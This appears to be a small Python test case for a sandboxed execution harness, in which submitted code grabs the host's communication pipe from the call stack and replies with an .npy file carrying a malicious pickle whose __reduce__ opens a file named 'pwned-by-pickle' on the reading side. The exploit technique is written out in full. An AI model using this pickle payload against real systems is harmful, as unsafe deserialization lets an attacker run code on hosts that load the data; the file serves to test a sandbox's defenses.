"""Answers with an .npy file that holds a pickle, which would write a file where it is read."""
# earns: 0
# limits: unit=1.2

import io
import struct
import sys

import msgpack
import numpy as np

frame = sys._getframe()
while frame.f_code.co_name != "serve":
    frame = frame.f_back
pipe = frame.f_locals["self"].pipe


class Code:
    def __reduce__(self):
        return open, ("@OPEN@/pwned-by-pickle", "w")


def softmax(logits):
    file = io.BytesIO()
    np.save(file, np.array([Code()], object), allow_pickle=True)
    packed = msgpack.packb([["l", "return", ["a", 0], ["l", ["l"], ["l"], ["l"], None]], []])
    pipe.send(struct.pack("<I", len(packed)) + packed + struct.pack("<I", len(file.getvalue())) + file.getvalue())
